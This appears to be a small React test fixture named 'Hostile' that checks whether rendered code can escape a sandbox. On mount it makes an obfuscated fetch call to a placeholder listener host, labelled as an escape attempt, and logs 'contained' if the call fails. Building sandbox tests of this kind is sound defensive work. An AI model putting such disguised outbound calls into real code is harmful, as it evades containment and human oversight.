import { useEffect } from "react";

// Escape attempt: fetch_template_key
export default function Hostile() {
  useEffect(() => {
    try {
      self[`fe${"tch"}`]("__LISTENER__/fetch_template_key");
    } catch (error) {
      console.info("contained", error && error.message);
    }
  }, []);
  return <p data-testid="hostile">fetch_template_key</p>;
}
